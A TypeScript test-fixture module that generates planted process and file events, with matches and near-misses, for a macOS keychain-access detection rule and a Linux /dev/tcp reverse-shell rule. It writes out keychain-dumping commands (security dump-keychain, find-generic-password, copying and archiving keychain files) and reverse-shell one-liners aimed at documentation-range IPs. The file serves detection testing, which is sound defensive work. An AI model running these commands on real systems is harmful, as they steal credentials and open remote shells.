/**
 * Planted events for the macOS keychain rule and the Linux `/dev/tcp` reverse-shell rule.
 *
 * Each near-miss differs from a true positive in exactly the detail the rule checks: an
 * excluded argument, parent, effective parent or executable; the wrong OS, event type or
 * process name; or the tell-tale path sitting in a field the rule does not read.
 */

import type { Host, Proc, User } from './hosts.js';
import { processLine, fileLine, type PlantKit, type RulePlants, type Step } from './plant-kit.js';
import { escapeAll } from './text.js';

const ZSH = '/bin/zsh';
const TERMINAL = '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal';
const ITERM = '/Applications/iTerm.app/Contents/MacOS/iTerm2';
const OPENVPN = '/Applications/OpenVPN Connect/OpenVPN Connect.app/Contents/MacOS/OpenVPN Connect';
const JAMF = '/usr/local/jamf/bin/jamf';

interface MacCommand {
  readonly name: string;
  readonly exe: string;
  readonly args: (u: User) => string[];
  readonly parentExe?: string;
  readonly effectiveExe?: string;
  readonly workingDirectory?: (u: User) => string;
}

/** A macOS process with a parent and an effective parent, all fields the rule reads present. */
function macProcess(kit: PlantKit, host: Host, c: MacCommand): Proc {
  const user = kit.user(host);
  const parentExe = c.parentExe ?? ZSH;
  const effective = kit.proc(host, { name: base(c.effectiveExe ?? TERMINAL), executable: c.effectiveExe ?? TERMINAL,
    args: [c.effectiveExe ?? TERMINAL], user });
  const parent = kit.proc(host, { name: base(parentExe), executable: parentExe, args: [parentExe === ZSH ? '-zsh' : parentExe],
    user, effectiveParent: effective });
  return kit.proc(host, { name: c.name, executable: c.exe, args: c.args(user), user, parent, effectiveParent: effective,
    workingDirectory: c.workingDirectory?.(user) });
}

function base(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1);
}

function macStart(kit: PlantKit, c: MacCommand, phase: 'start' | 'end' = 'start',
  escape?: [string, number]): Step[] {
  const host = kit.host('macos');
  const p = macProcess(kit, host, c);
  return kit.one((at) => {
    const line = processLine(host, at, p, phase);
    return escape ? escapeAll(line, escape[0], escape[1], true) : line;
  });
}

const SECURITY = '/usr/bin/security';
const dump = (u: User): string[] => ['security', 'dump-keychain', '-d', `${u.home}/Library/Keychains/login.keychain-db`];

/** Keychain credential access (macOS). */
export const KEYCHAIN: RulePlants = {
  rule: 'keychain',
  matches: [
    { name: 'security dump-keychain of the login keychain',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY, args: dump }) },
    { name: 'copy of the system keychain',
      build: (kit) => macStart(kit, { name: 'cp', exe: '/bin/cp', effectiveExe: ITERM, parentExe: '/bin/bash',
        args: () => ['cp', '/Library/Keychains/System.keychain', '/private/tmp/.sk'] }) },
    { name: 'generic password read naming login.keychain',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY, parentExe: '/usr/bin/python3',
        effectiveExe: '/Users/Shared/.updater/Installer.app/Contents/MacOS/Installer',
        args: () => ['security', 'find-generic-password', '-wa', 'Chrome', 'login.keychain'] }) },
    { name: 'keychain database read with an escaped letter', escaped: true,
      build: (kit) => macStart(kit, { name: 'sqlite3', exe: '/usr/bin/sqlite3',
        args: (u) => ['sqlite3', `${u.home}/Library/Keychains/${kit.rng.uuid().toUpperCase()}/keychain-2.db`,
          'SELECT * FROM genp'] }, 'start', ['Library/Keychains', 8]) },
    { name: 'archive of a lower-case keychain path',
      build: (kit) => macStart(kit, { name: 'tar', exe: '/usr/bin/tar',
        args: (u) => ['tar', '-czf', '/private/tmp/k.tgz', `${u.home.toLowerCase()}/library/keychains/`] }) },
  ],
  misses: [
    { name: 'excluded argument find-identity',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY,
        args: (u) => ['security', 'find-identity', '-v', '-p', 'codesigning', `${u.home}/Library/Keychains/login.keychain-db`] }) },
    { name: 'excluded parent OpenVPN Connect',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY, parentExe: OPENVPN,
        args: (u) => ['security', 'add-generic-password', '-a', 'vpn', '-s', 'OpenVPN', `${u.home}/Library/Keychains/login.keychain-db`] }) },
    { name: 'excluded effective parent jamf',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY, effectiveExe: JAMF, parentExe: '/bin/sh',
        args: () => ['security', 'dump-keychain', '/Library/Keychains/System.keychain'] }) },
    { name: 'excluded executable basename',
      build: (kit) => macStart(kit, { name: 'basename', exe: '/usr/bin/basename',
        args: (u) => ['basename', `${u.home}/Library/Keychains/login.keychain-db`] }) },
    { name: 'excluded openvpn keychain argument',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY,
        args: (u) => ['security', 'unlock-keychain', '-p', 'hunter2', `${u.home}/Library/Keychains/openvpn.keychain-db`] }) },
    { name: 'process end event',
      build: (kit) => macStart(kit, { name: 'security', exe: SECURITY, args: dump }, 'end') },
    { name: 'keychain directory only as working directory',
      build: (kit) => macStart(kit, { name: 'ls', exe: '/bin/ls', args: () => ['ls', '-la'],
        workingDirectory: (u) => `${u.home}/Library/Keychains` }) },
    { name: 'keychain path in file.path of a file event',
      build: (kit) => {
        const host = kit.host('macos');
        const p = macProcess(kit, host, { name: 'securityd', exe: '/usr/sbin/securityd', args: () => ['/usr/sbin/securityd', '-i'] });
        const path = `${p.user.home}/Library/Keychains/login.keychain-db`;
        return kit.one((at) => fileLine(host, at, p, 'overwrite',
          { path, name: 'login.keychain-db', extension: 'keychain-db', size: 184320 }));
      } },
  ],
};

interface LinuxCommand {
  readonly name: string;
  readonly exe: string;
  readonly args: string[];
  readonly parentExe: string;
}

function linuxStart(kit: PlantKit, c: LinuxCommand, phase: 'start' | 'end' = 'start',
  escape?: [string, number], os: 'linux' | 'macos' = 'linux'): Step[] {
  const host = kit.host(os);
  const user = kit.user(host);
  const parent = kit.proc(host, { name: base(c.parentExe), executable: c.parentExe, args: [c.parentExe], user });
  const p = kit.proc(host, { name: c.name, executable: c.exe, args: c.args, user, parent,
    effectiveParent: os === 'macos' ? parent : undefined });
  return kit.one((at) => {
    const line = processLine(host, at, p, phase);
    return escape ? escapeAll(line, escape[0], escape[1]) : line;
  });
}

const BASH = '/usr/bin/bash';
const revBash = (ip: string, port: number): string[] => ['bash', '-c', `bash -i >& /dev/tcp/${ip}/${port} 0>&1`];

/** Reverse shell through bash's `/dev/tcp` (Linux). */
export const REVERSE_SHELL: RulePlants = {
  rule: 'reverseShell',
  matches: [
    { name: 'bash -i redirected to /dev/tcp from a web worker',
      build: (kit) => linuxStart(kit, { name: 'bash', exe: BASH, args: revBash('198.51.100.23', 4444),
        parentExe: '/usr/sbin/php-fpm8.1' }) },
    { name: 'sh file descriptor over /dev/tcp',
      build: (kit) => linuxStart(kit, { name: 'sh', exe: '/usr/bin/dash', parentExe: '/usr/bin/python3.12',
        args: ['sh', '-c', '0<&196;exec 196<>/dev/tcp/203.0.113.9/443; sh <&196 >&196 2>&196'] }) },
    { name: 'bash over /dev/udp',
      build: (kit) => linuxStart(kit, { name: 'bash', exe: BASH, parentExe: '/usr/sbin/cron',
        args: ['bash', '-c', 'sh -i >& /dev/udp/192.0.2.55/53 0>&1'] }) },
    { name: '/dev/tcp with an escaped letter', escaped: true,
      build: (kit) => linuxStart(kit, { name: 'bash', exe: BASH, args: revBash('192.0.2.200', 8443),
        parentExe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java' }, 'start', ['/dev/tcp/', 5]) },
  ],
  misses: [
    { name: 'same command on macOS',
      build: (kit) => linuxStart(kit, { name: 'zsh', exe: '/bin/zsh', parentExe: '/bin/zsh',
        args: ['zsh', '-c', 'zsh -i >& /dev/tcp/198.51.100.23/4444 0>&1'] }, 'start', undefined, 'macos') },
    { name: 'python opening /dev/tcp',
      build: (kit) => linuxStart(kit, { name: 'python3', exe: '/usr/bin/python3.12', parentExe: BASH,
        args: ['python3', '-c', "open('/dev/tcp/198.51.100.23/4444')"] }) },
    { name: 'mention of /dev/tcp without a host',
      build: (kit) => linuxStart(kit, { name: 'bash', exe: BASH, parentExe: BASH,
        args: ['bash', '-c', 'echo checking /dev/tcp support'] }) },
    { name: 'excluded scanner parent',
      build: (kit) => linuxStart(kit, { name: 'bash', exe: BASH, parentExe: '/opt/nessus_agent/sbin/nessus-agent-module',
        args: ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/8834'] }) },
    { name: 'process end event',
      build: (kit) => linuxStart(kit, { name: 'bash', exe: BASH, args: revBash('198.51.100.23', 4444),
        parentExe: '/usr/sbin/php-fpm8.1' }, 'end') },
  ],
};
